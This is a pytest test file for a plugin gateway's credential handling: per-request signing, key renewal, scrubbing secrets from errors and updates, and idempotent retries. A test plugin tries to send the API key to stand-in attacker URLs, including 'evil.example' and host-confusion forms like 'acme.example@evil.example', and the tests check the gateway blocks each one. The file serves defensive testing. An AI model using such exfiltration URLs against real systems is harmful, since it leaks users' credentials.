"""Every send is signed anew, credentials are renewed when they expire, and the key goes to the provider alone."""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import dataclass, replace
from datetime import datetime, timedelta
from typing import Any

import pytest

from core.acme import Acme, AcmeServer, acme, broken, generation, reply
from tarash.tarash_gateway import AuthenticationError, HTTPError, PluginError, ProgressUpdate
from tarash.tarash_gateway.discovery import Registry
from tarash.tarash_gateway.engine.resolving import resolve_credentials
from tarash.tarash_gateway.plugin import (
    Asset,
    AuthScheme,
    Call,
    Credentials,
    Flow,
    Generated,
    HttpCall,
    HttpReply,
    ProviderInfo,
    Secret,
    Submission,
    hookimpl,
    send,
)
from tarash.tarash_gateway.testing import VirtualTime
from tarash.tarash_gateway.testing.virtual_time import START

KEY = "acme-key-123456"


class Declaring(Acme):
    """Acme with some other declaration of itself."""

    def __init__(self, **changes: Any) -> None:
        super().__init__()
        self._info = replace(self._info, **changes)


class Signing(Acme):
    """Wants a one-use token in every request."""

    @hookimpl
    def tarash_sign(self, call: Call, http: HttpCall, at: datetime, token: str) -> HttpCall:
        signature = f"{call.api_key.reveal()[:4]}.{int(at.timestamp())}.{token}"
        return replace(http, headers={**http.headers, "X-Signature": signature}, secrets=(signature,))


class Recording(AcmeServer):
    """Keeps every call."""

    def __init__(self, **settings: Any) -> None:
        super().__init__(**settings)
        self.calls: list[HttpCall] = []

    def __call__(self, call: HttpCall, now: float) -> HttpReply:
        self.calls.append(call)
        return super().__call__(call, now)


def _registry(plugin: Acme, *extensions: object) -> Registry:
    made = Registry(lambda _group: ())
    for extension in extensions:
        made.register_extension(extension)
    made.register("acme", plugin)
    return made


def _run(plugin: Acme, server: AcmeServer, *extensions: object, **config: Any) -> Any:
    made = generation(acme(**config), providers=_registry(plugin, *extensions))
    return VirtualTime(server).run(made.generate())


def test_every_send_and_resend_has_a_signature_of_its_own() -> None:
    server = Recording()
    server.answers["submit"] = [broken("connect"), reply(429, {})]
    _run(Signing(), server)
    signatures = [call.headers["X-Signature"] for call in server.calls]
    assert server.count("submit") == 3
    assert len(set(signatures)) == len(server.calls) > 4
    times = [int(signature.split(".")[1]) for signature in signatures]
    assert times == sorted(times)
    assert times[-1] > times[0]


def test_a_signature_is_taken_out_of_errors() -> None:
    class Echoing(Recording):
        def __call__(self, call: HttpCall, now: float) -> HttpReply:
            return reply(400, {"message": f"bad signature {call.headers['X-Signature']}"})

    with pytest.raises(Exception, match="bad signature") as caught:
        _run(Signing(), Echoing())
    assert "acme." not in str(caught.value)
    assert "***" in str(caught.value)


def test_a_signer_that_builds_a_new_call_loses_neither_its_time_limit_nor_its_account() -> None:
    class Rebuilding(Acme):
        @hookimpl
        def tarash_sign(self, http: HttpCall) -> HttpCall:
            return HttpCall(method=http.method, url=http.url, headers=http.headers, json=http.json)

    server, plain = Recording(), Recording()
    _run(Rebuilding(), server, account="studio")
    _run(Acme(), plain, account="studio")
    assert [(call.timeout_seconds, call.purpose, call.account) for call in server.calls] == [
        (call.timeout_seconds, call.purpose, call.account) for call in plain.calls
    ]
    assert all(call.timeout_seconds for call in server.calls)


def test_a_signing_hook_that_gives_something_else_is_named() -> None:
    class Wrong(Acme):
        @hookimpl
        def tarash_sign(self, http: HttpCall) -> object:
            return dict(http.headers)

    with pytest.raises(PluginError, match="tarash_sign returned dict, not HttpCall"):
        _run(Wrong(), AcmeServer())


@dataclass(eq=False)
class Vault:
    """Hands out keys that live for 20 seconds."""

    asked: int = 0

    @hookimpl
    def tarash_credentials(self, provider: ProviderInfo, account: str | None) -> Credentials:
        self.asked += 1
        return Credentials(
            api_key=Secret(f"vault-key-{self.asked}"), expires_at=START + timedelta(seconds=20 * self.asked)
        )


def test_expired_credentials_are_asked_for_again() -> None:
    server, vault = Recording(), Vault()
    _run(Acme(), server, vault, api_key=None)
    used = [call.headers["Authorization"] for call in server.calls]
    assert used[0] == "Bearer vault-key-1"
    assert len(set(used)) == vault.asked >= 3
    assert used == sorted(used)


@pytest.mark.parametrize("plugin", [Acme(), Signing()], ids=["renewed-key", "signature"])
def test_what_is_sent_to_sign_a_request_is_in_no_update_and_no_response(plugin: Acme) -> None:
    class Echoing(AcmeServer):
        def __call__(self, call: HttpCall, now: float) -> HttpReply:
            answered = super().__call__(call, now)
            sent.update(call.headers.values())
            return reply(answered.status, {**json.loads(answered.content), "debug": [*call.headers.values()]})

    sent: set[str] = set()
    updates: list[ProgressUpdate] = []
    made = generation(acme(api_key=None), providers=_registry(plugin, Vault()), reports=True)
    driver = VirtualTime(Echoing(tells_percent=True), on_progress=updates.append)
    response = driver.run(made.generate())
    shown = f"{response.raw_response} {[update.update for update in updates]}"
    secrets = [text.removeprefix("Bearer ") for text in sent if "vaul" in text]
    assert len(secrets) >= 3
    assert "debug" in shown
    assert [secret for secret in secrets if secret in shown] == []


PARTS = {"access_key": ("ACME_ACCESS",), "secret_key": ("ACME_SECRET",)}


@pytest.mark.parametrize(
    ("provider_config", "environ", "found"),
    [
        ({"access_key": "a-1", "secret_key": "s-1"}, {}, {"access_key": "a-1", "secret_key": "s-1"}),
        ({}, {"ACME_ACCESS": "a-2", "ACME_SECRET": "s-2"}, {"access_key": "a-2", "secret_key": "s-2"}),
        ({"access_key": "a-3"}, {"ACME_SECRET": "s-3"}, {"access_key": "a-3", "secret_key": "s-3"}),
    ],
)
def test_a_key_of_several_parts_needs_no_other(
    provider_config: Mapping[str, object], environ: Mapping[str, str], found: Mapping[str, str]
) -> None:
    provider = _registry(Declaring(key_parts=PARTS)).get("acme")
    config = acme(api_key=None, provider_config=provider_config)
    credentials = resolve_credentials(config, provider, environ, needed=True)
    assert {name: part.reveal() for name, part in credentials.parts.items()} == found
    assert not credentials.api_key


def test_half_a_key_is_none() -> None:
    provider = _registry(Declaring(key_parts=PARTS)).get("acme")
    with pytest.raises(AuthenticationError, match="ACME_KEY or ACME_ACCESS and ACME_SECRET"):
        resolve_credentials(acme(api_key=None), provider, {"ACME_ACCESS": "a"}, needed=True)


class Leaking(Declaring):
    """Sends the key to a server of the plugin's own choice."""

    def __init__(self, url: str, *, headers: Mapping[str, str] | None = None, **changes: Any) -> None:
        super().__init__(**changes)
        self.url = url
        self.headers = headers or {"Authorization": f"Bearer {KEY}"}

    @hookimpl
    def tarash_submit(self, call: Call, payload: Mapping[str, object]) -> Flow[Submission]:
        yield from send(call.request("PUT", self.url, headers=self.headers, auth=False))
        return Submission(result={"url": "https://cdn.acme.example/1.mp4"})

    @hookimpl
    def tarash_normalize(self, raw: object) -> Flow[Generated]:
        yield from ()
        return Generated(assets=(Asset(kind="video", url="https://cdn.acme.example/1.mp4"),))


class Accepting(AcmeServer):
    """Answers anything."""

    def __call__(self, call: HttpCall, now: float) -> HttpReply:
        self.seen.append((call.url, now))
        return reply(200, {})


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/upload",
        "http://acme.example/upload",
        "https://acme.example.evil.example/upload",
        "https://acme.example:444/upload",
        "https://acme.example@evil.example/upload",
        f"https://evil.example/{KEY}",
    ],
)
def test_the_key_goes_nowhere_else(url: str) -> None:
    server = Accepting()
    with pytest.raises(PluginError, match="would send the key"):
        _run(Leaking(url), server)
    assert server.seen == []


@pytest.mark.parametrize(
    ("url", "changes"),
    [
        ("https://acme.example/upload", {}),
        ("https://files.acme.example/upload", {"origins": ("https://files.acme.example",)}),
        ("https://eu.acme.example/upload", {"origins": ("https://*.acme.example",)}),
    ],
)
def test_the_key_goes_to_servers_of_the_provider(url: str, changes: Mapping[str, Any]) -> None:
    server = Accepting()
    _run(Leaking(url, **changes), server)
    assert [seen for seen, _ in server.seen] == [url]


def test_a_key_in_the_query_has_to_be_declared() -> None:
    url = f"https://acme.example/upload?key={KEY}"
    with pytest.raises(PluginError, match=r"AuthScheme\(query=…\)"):
        _run(Leaking(url, headers={"X-Other": "1"}), Accepting())
    server = Accepting()
    _run(Leaking("https://acme.example/upload", headers={"X-Other": "1"}), server)
    assert len(server.seen) == 1


def test_a_declared_query_carries_the_key() -> None:
    server = Recording()
    _run(Declaring(auth=AuthScheme(query="key")), server)
    assert all(call.url.endswith(f"?key={KEY}") for call in server.calls)
    assert all("Authorization" not in call.headers for call in server.calls)


def test_headers_of_the_settings_stay_at_home() -> None:
    class Heading(Acme):
        @hookimpl
        def tarash_submit(self, call: Call, payload: Mapping[str, object]) -> Flow[Submission]:
            call = call.with_headers({"X-Organization": "org-1"})
            yield from send(call.request("POST", "/jobs", json={}))
            yield from send(call.request("PUT", "https://store.example/x", content=b"x"))
            return Submission(job={"id": "job-1"}, request_id="job-1")

    class Server(Recording):
        def __call__(self, call: HttpCall, now: float) -> HttpReply:
            if call.method == "PUT":
                self.calls.append(call)
                return reply(200, {})
            return super().__call__(call, now)

    server = Server()
    _run(Heading(), server)
    by_method = {call.method: call.headers for call in server.calls[:2]}
    assert by_method["POST"]["X-Organization"] == "org-1"
    assert by_method["PUT"] == {}


class Idempotent(Declaring):
    """Creates jobs under a key that its server honours."""

    def __init__(self) -> None:
        super().__init__(idempotent_submit=True)

    @hookimpl
    def tarash_submit(self, call: Call, payload: Mapping[str, object]) -> Flow[Submission]:
        headers = {"Idempotency-Key": call.idempotency_key}
        answer = yield from send(call.request("POST", "/jobs", json={}, headers=headers, idempotent=True))
        job_id = answer.require_text("id")
        return Submission(job={"id": job_id}, request_id=job_id)


def test_an_idempotent_submit_is_sent_again_with_the_same_key() -> None:
    server = Recording()
    server.answers["submit"] = [broken("reset"), reply(500, {}), reply(503, {})]
    response = _run(Idempotent(), server)
    keys = {call.headers["Idempotency-Key"] for call in server.calls if call.method == "POST"}
    assert (len(keys), server.count("submit")) == (1, 4)
    assert response.execution_metadata.attempts[0].submitted == "yes"


def test_an_idempotent_submit_that_stays_unanswered_is_unknown() -> None:
    server = Recording()
    server.always["submit"] = reply(500, {})
    with pytest.raises(HTTPError) as caught:
        _run(Idempotent(), server)
    assert (caught.value.submitted, caught.value.billed) == ("unknown", "unknown")
